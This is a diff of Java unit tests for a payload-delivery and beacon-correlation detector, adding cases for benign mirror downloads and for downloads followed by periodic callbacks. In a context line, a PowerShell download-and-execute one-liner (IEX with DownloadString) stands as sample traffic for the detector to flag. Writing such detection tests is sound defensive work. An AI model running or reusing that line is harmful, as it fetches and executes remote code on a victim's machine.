@@ -79,6 +79,38 @@ class PayloadDeliveryDetectorTest {
     }
 
     @Test
+    void curlOrWgetFetchingFromANamedHostWithNothingAfterIsLow() {
+        ConnInfo c = C2Ev.tcp(4, "10.1.1.5", "10.1.1.40", 80);
+        detector.onEvent(download(c, 30, T0, "mirror.example.lan", "/vendor/install.sh", "curl/7.88.1", "text/x-sh",
+                "#!/bin/sh\necho installing\n".getBytes(StandardCharsets.UTF_8)));
+        detector.onEvent(download(c, 60, T0 + S, "mirror.example.lan", "/vendor/tool", "Wget/1.21.3", "application/octet-stream", elf()));
+        List<Finding> fs = deliveries();
+        assertThat(fs).hasSize(2).allSatisfy(f -> {
+            assertThat(f.severity()).isEqualTo(Severity.LOW);
+            assertThat(f.attacker()).isNull();
+        });
+        assertThat(C2Correlation.apply(new ArrayList<>(fs))).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
+    }
+
+    @Test
+    void aBeaconAlreadyRunningThatGoesOnAfterTheDownloadRaisesIt() {
+        // the dropper's fetches are the beacon's first requests: the beacon begins before the download and goes on after it
+        ConnInfo c = C2Ev.tcp(4, "10.1.1.5", "203.0.113.9", 80);
+        detector.onEvent(download(c, 30, T0 + 10 * S, "updates.example.org", "/agent.py", "Wget/1.21.3", "text/x-python",
+                "#!/usr/bin/env python3\nimport socket, subprocess\n".getBytes(StandardCharsets.UTF_8)));
+        List<Finding> all = new ArrayList<>(detector.finish());
+        assertThat(all).singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.LOW));
+        BeaconDetector beacons = new BeaconDetector(BeaconConfig.DEFAULTS);
+        Wire w = new Wire(beacons);
+        for (int i = 0; i < 10; i++) w.tcpConn(T0 + i * 30 * S, "10.1.1.5", 50000 + i, "203.0.113.9", 8443, 100, 50);
+        all.addAll(w.finish());
+        Finding d = C2Correlation.apply(all).stream().filter(f -> f.type() == FindingType.PAYLOAD_DELIVERY).findFirst().orElseThrow();
+        assertThat(d.severity()).isEqualTo(Severity.HIGH);
+        assertThat(d.attacker()).isEqualTo("203.0.113.9");
+        assertThat(d.evidence()).containsKey("followed_by");
+    }
+
+    @Test
     void aScriptNamedAsAnImageIsSuspicious() {
         ConnInfo c = C2Ev.tcp(4, "10.1.1.66", "198.51.100.80", 80);
         byte[] ps = "$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x/y'))".getBytes(StandardCharsets.UTF_8);
